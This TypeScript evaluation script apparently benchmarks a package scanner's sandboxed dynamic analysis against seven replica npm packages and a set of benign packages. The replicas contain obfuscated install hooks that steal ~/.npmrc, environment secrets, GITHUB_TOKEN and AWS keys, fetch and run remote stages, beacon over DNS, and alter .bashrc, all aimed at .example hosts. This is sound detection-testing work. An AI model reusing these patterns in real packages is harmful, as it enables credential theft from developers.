/**
 * The figures of `cordon scan --dynamic`:
 *
 *   node dist/eval/dynamic.js [--only=replicas|benign] [--set=all|top|alarming] [--limit=N] [--deps=install|none]
 *                             [--cache-dir=DIR] [--verbose]
 *
 * - replicas: inert packages written here that hide from a reader what they
 *   do (names and hosts computed at run time, a stage fetched, a payload
 *   decrypted with a key from the environment); the static verdict against
 *   the static + behavioural one. Every host is under the reserved .example
 *   top-level domain, so nothing they do could reach anyone even outside a
 *   sandbox; inside, the network is the sinkhole.
 * - benign: the eval's cached tarballs of the most-downloaded packages (and
 *   the alarming-looking ones), each installed and loaded in an observation
 *   sandbox: how many the behaviour rules flag, and the time per package.
 *   Their install scripts do run, in cordon's sandbox with no network out.
 *
 * Never the real malware dev set: that is read as text only (eval/devset.ts).
 */
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { homedir, tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { fileURLToPath } from "node:url";
import { parseArgs } from "node:util";
import { scanPackageDirDynamic, scanTarballDynamic } from "../src/scan/dynamic/index.js";
import { FileAnalyzerPool, scanPackageDir, type PackageReport } from "../src/scan/index.js";

const EVAL_DIR = fileURLToPath(new URL("../../eval/", import.meta.url));
const OBSERVE = { timeoutMs: 30_000 };

interface Replica { name: string; what: string; files: Record<string, string> }

const pkg = (scripts: Record<string, string>): string => JSON.stringify({ name: "replica", version: "1.0.0", main: "index.js", scripts });
/** `h("collect.drop.example")` as code that computes it: no string for a reader to see. */
const hidden = (text: string): string => `String.fromCharCode(...[${[...Buffer.from(text)].map((b) => b ^ 23).join(",")}].map((c) => c ^ 23))`;

const REPLICAS: Replica[] = [
  {
    name: "computed-names-npmrc",
    what: "reads ~/.npmrc and posts it, module, path and host computed at run time",
    files: {
      "package.json": pkg({ postinstall: "node lib/setup.js" }),
      "lib/setup.js": `const m = require(${hidden("https")}), f = require(${hidden("fs")});
const d = f.readFileSync(require("path").join(require("os").homedir(), ${hidden(".npmrc")}));
const r = m.request({ host: ${hidden("collect.drop.example")}, method: "POST", path: "/u" }, (s) => s.resume());
r.on("error", () => {}); r.end(d.toString("base64"));`,
      "index.js": "module.exports = {};\n",
    },
  },
  {
    name: "env-by-pattern",
    what: "collects every variable whose name looks secret, through getOwnPropertyNames, gzip + base64 in a header",
    files: {
      "package.json": pkg({ preinstall: "node pre.js" }),
      "pre.js": `const e = globalThis[${hidden("process")}][${hidden("env")}];
const picked = Object.getOwnPropertyNames(e).filter((n) => /TOK|KEY|SECRET/.test(n)).map((n) => n + "=" + e[n]).join("&");
const z = require("zlib").gzipSync(picked).toString("base64");
fetch("https://" + ${hidden("metrics.cdn-stats.example")} + "/v2/ping", { headers: { "x-trace": z } }).then((r) => r.text(), () => {});`,
      "index.js": "",
    },
  },
  {
    name: "encrypted-stage",
    what: "a payload AES-encrypted in the package, keyed by npm's user agent; decrypted and run only under npm",
    files: {
      "package.json": pkg({ postinstall: "node build.js" }),
      // build.js is written below by encryptedStage(): it decrypts a blob that posts GITHUB_TOKEN.
      "build.js": "",
      "index.js": "",
    },
  },
  {
    name: "fetched-stage",
    what: "fetches its second stage from a computed URL and runs it with vm",
    files: {
      "package.json": pkg({ install: "node i.js" }),
      "i.js": `fetch(${hidden("http://cdn.pkg-mirror.example/s/2.js")}).then((r) => r.text()).then((t) => require("vm").runInThisContext(t)).catch(() => {});`,
      "index.js": "",
    },
  },
  {
    name: "dns-label-beacon",
    what: "puts a token hex-encoded into the labels of a host name",
    files: {
      "package.json": pkg({ postinstall: "node b.js" }),
      "b.js": `const e = process[${hidden("env")}], t = e[Object.keys(e).find((k) => k.startsWith("GH_"))] || "";
const x = Buffer.from(t).toString("hex"); require("https").get("https://" + x.slice(0, 40) + "." + x.slice(40) + "." + ${hidden("q.oast-dns.example")} + "/", (r) => r.resume()).on("error", () => {});`,
      "index.js": "",
    },
  },
  {
    name: "shell-rc-dropper",
    what: "appends to a shell start-up file named at run time and leaves a process behind",
    files: {
      "package.json": pkg({ postinstall: "node p.js" }),
      "p.js": `const f = require("fs"), p = require("path").join(require("os").homedir(), ${hidden(".bashrc")});
f.appendFileSync(p, "\\n(sleep 1 &) 2>/dev/null\\n");
require("child_process")[${hidden("spawn")}]("sleep", ["30"], { detached: true, stdio: "ignore" }).unref();`,
      "index.js": "",
    },
  },
  {
    name: "run-time-key-theft",
    what: "sends an AWS key from its entry point when loaded, no install script",
    files: {
      "package.json": JSON.stringify({ name: "replica", version: "1.0.0", main: "index.js" }),
      "index.js": `const k = process.env[${hidden("AWS_SECRET_ACCESS_KEY")}];
if (k) { const r = require("https").request({ host: ${hidden("telemetry.lib-analytics.example")}, method: "POST", path: "/e" }, (s) => s.resume()); r.on("error", () => {}); r.end(JSON.stringify({ k })); }
module.exports = {};`,
    },
  },
];

/** The encrypted-stage replica's build.js: the stage is encrypted here, at eval time, so no plain text of it is in the package. */
async function encryptedStage(): Promise<string> {
  const { createCipheriv, createHash, randomBytes } = await import("node:crypto");
  const stage = `require("https").request({ host: "gh.relay.example", method: "POST", path: "/t" }, (s) => s.resume()).on("error", () => {}).end(process.env.GITHUB_TOKEN || "")`;
  const iv = randomBytes(16);
  const cipher = createCipheriv("aes-256-cbc", createHash("sha256").update("npm").digest(), iv);
  const blob = Buffer.concat([iv, cipher.update(stage), cipher.final()]).toString("base64");
  return `const c = require("crypto"), b = Buffer.from("${blob}", "base64");
const who = (process.env.npm_config_user_agent || "").split("/")[0];
try { const d = c.createDecipheriv("aes-256-cbc", c.createHash("sha256").update(who).digest(), b.subarray(0, 16));
  const code = Buffer.concat([d.update(b.subarray(16)), d.final()]).toString(); new Function("require", "process", code)(require, process); } catch {}`;
}

async function evaluateReplicas(pool: FileAnalyzerPool, verbose: boolean) {
  const rows: { name: string; what: string; static: string; dynamic: string; behaviour: string[]; ms: number }[] = [];
  for (const replica of REPLICAS) {
    const dir = await mkdtemp(join(tmpdir(), "cordon-dyn-replica-"));
    try {
      const files = { ...replica.files, ...(replica.name === "encrypted-stage" ? { "build.js": await encryptedStage() } : {}) };
      for (const [path, content] of Object.entries(files)) {
        await mkdir(dirname(join(dir, path)), { recursive: true });
        await writeFile(join(dir, path), content);
      }
      const alone = await scanPackageDir(dir, { cache: false, pool });
      const started = performance.now();
      const both = await scanPackageDirDynamic(dir, { cache: false, pool, observe: OBSERVE });
      const behaviour = both.findings.filter((f) => f.rule.startsWith("behaviour/") && !["info", "low"].includes(f.severity)).map((f) => `${f.rule} ${f.severity}`);
      rows.push({ name: replica.name, what: replica.what, static: alone.verdict, dynamic: both.verdict, behaviour, ms: performance.now() - started });
      if (verbose) for (const f of both.findings.filter((x) => x.severity !== "info")) console.log(`      ${f.severity} ${f.rule}: ${f.message} | ${f.evidence.slice(0, 140)}`);
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
  }
  console.log("\nReplicas that hide what they do (inert, .example hosts only)");
  for (const row of rows) console.log(`  ${row.name.padEnd(22)} static ${row.static.padEnd(10)} +dynamic ${row.dynamic.padEnd(10)} ${(row.ms / 1000).toFixed(1)} s  ${row.behaviour.join(", ")}`);
  return rows;
}

interface BenignPackage { name: string; version: string; set: string }

async function evaluateBenign(pool: FileAnalyzerPool, options: { cacheDir: string; set: string; limit: number; verbose: boolean; deps: "install" | "none" }) {
  const lines = (await readFile(join(EVAL_DIR, "benign-top.tsv"), "utf8")).split("\n").slice(1).filter(Boolean);
  const list: BenignPackage[] = lines.map((line) => {
    const [name, version, , set] = line.split("\t");
    return { name: name ?? "", version: version ?? "", set: set ?? "top" };
  }).filter((p) => options.set === "all" || (options.set === "top" ? p.set === "top" : p.set !== "top")).slice(0, options.limit);
  const tarball = (p: BenignPackage): string => join(options.cacheDir, `${p.name.replace(/^@/, "").replace("/", "-")}-${p.version}.tgz`);
  const available = list.filter((p) => existsSync(tarball(p)));
  console.log(`\nBenign packages observed: ${available.length} of ${list.length} (tarballs cached by \`npm run eval\`; dependencies: ${options.deps === "install" ? "installed from the registry, scripts off" : "none"})`);
  const started = performance.now();
  const rows: { pkg: BenignPackage; report: PackageReport; ms: number; staticVerdict: string }[] = [];
  // Side by side, as many as there are cores (addBehaviour's default), one tarball at a time each.
  let next = 0;
  const workers = Math.max(1, (await import("node:os")).availableParallelism());
  await Promise.all(Array.from({ length: workers }, async () => {
    while (next < available.length) {
      const p = available[next++] as BenignPackage;
      const begin = performance.now();
      try {
        const report = await scanTarballDynamic(tarball(p), { cache: false, pool, observe: { ...OBSERVE, dependencies: options.deps } });
        const staticFindings = report.findings.filter((f) => !f.rule.startsWith("behaviour/"));
        const { verdictOf } = await import("../src/scan/verdict.js");
        rows.push({ pkg: p, report, ms: performance.now() - begin, staticVerdict: verdictOf(staticFindings) });
      } catch (error) {
        console.log(`  could not observe ${p.name}@${p.version}: ${(error as Error).message}`);
      }
    }
  }));
  const wall = performance.now() - started;
  const behaviourFlag = rows.filter((r) => r.report.findings.some((f) => f.rule.startsWith("behaviour/") && ["critical", "high", "medium"].includes(f.severity)));
  const changed = rows.filter((r) => r.report.verdict !== r.staticVerdict);
  const times = rows.map((r) => r.ms).sort((a, b) => a - b);
  const ran = rows.filter((r) => (r.report.behaviour?.steps.length ?? 0) > 1);
  const loaded = rows.filter((r) => r.report.behaviour?.steps.find((s) => s.event === "load")?.exitCode === 0);
  const contacted = rows.filter((r) => (r.report.behaviour?.requests.length ?? 0) > 0);
  const at = (q: number): number => times[Math.min(times.length - 1, Math.floor(q * times.length))] ?? 0;
  console.log(`  ran install scripts: ${ran.length}; entry point loaded without error: ${loaded.length}; contacted the (sinkhole) network: ${contacted.length}`);
  console.log(`  verdict changed by behaviour: ${changed.length} (${changed.map((r) => `${r.pkg.name} ${r.staticVerdict}→${r.report.verdict}`).join(", ") || "none"})`);
  console.log(`  a behaviour finding of medium or more: ${behaviourFlag.length}`);
  for (const r of behaviourFlag) {
    console.log(`    ${r.pkg.name}@${r.pkg.version}: ${r.report.findings.filter((f) => f.rule.startsWith("behaviour/") && ["critical", "high", "medium"].includes(f.severity)).map((f) => `${f.rule} ${f.severity} (${f.message.slice(0, 90)})`).join("; ")}`);
  }
  console.log(`  time per package (unpack, static scan, observation): median ${(at(0.5) / 1000).toFixed(1)} s, p95 ${(at(0.95) / 1000).toFixed(1)} s, max ${((times.at(-1) ?? 0) / 1000).toFixed(1)} s; wall ${(wall / 1000).toFixed(0)} s, ${workers} side by side`);
  if (options.verbose) for (const r of rows) console.log(`    ${r.pkg.name.padEnd(32)} ${(r.ms / 1000).toFixed(1)} s ${r.report.behaviour?.steps.map((s) => `${s.event}:${s.exitCode}`).join(" ")} hosts=${[...new Set(r.report.behaviour?.requests.map((q) => q.host))].join(",")}`);
  return {
    packages: rows.length, ranInstallScripts: ran.length, loaded: loaded.length, contactedNetwork: contacted.length,
    verdictChanged: changed.map((r) => ({ name: r.pkg.name, from: r.staticVerdict, to: r.report.verdict })),
    behaviourFlagged: behaviourFlag.map((r) => ({ name: r.pkg.name, version: r.pkg.version, findings: r.report.findings.filter((f) => f.rule.startsWith("behaviour/") && f.severity !== "info") })),
    medianMs: at(0.5), p95Ms: at(0.95), wallMs: wall,
  };
}

async function main(): Promise<void> {
  const { values } = parseArgs({
    options: {
      only: { type: "string" }, set: { type: "string", default: "all" }, limit: { type: "string" }, deps: { type: "string", default: "install" },
      "cache-dir": { type: "string" }, verbose: { type: "boolean", default: false },
    },
  });
  const cacheDir = values["cache-dir"] ?? join(process.env.XDG_CACHE_HOME ?? join(homedir(), ".cache"), "cordon", "eval-tarballs");
  await using pool = new FileAnalyzerPool();
  const summary: Record<string, unknown> = {};
  if (values.only === undefined || values.only === "replicas") summary.replicas = await evaluateReplicas(pool, values.verbose);
  if (values.only === undefined || values.only === "benign") {
    summary.benign = await evaluateBenign(pool, { cacheDir, set: values.set, limit: values.limit === undefined ? Infinity : Number(values.limit), verbose: values.verbose, deps: values.deps === "none" ? "none" : "install" });
  }
  await mkdir(cacheDir, { recursive: true });
  const out = join(cacheDir, `eval-dynamic-report-${values.only ?? "all"}-${values.set}.json`);
  await writeFile(out, JSON.stringify(summary, null, 2));
  console.log(`\nFull results: ${out}`);
}



await main();
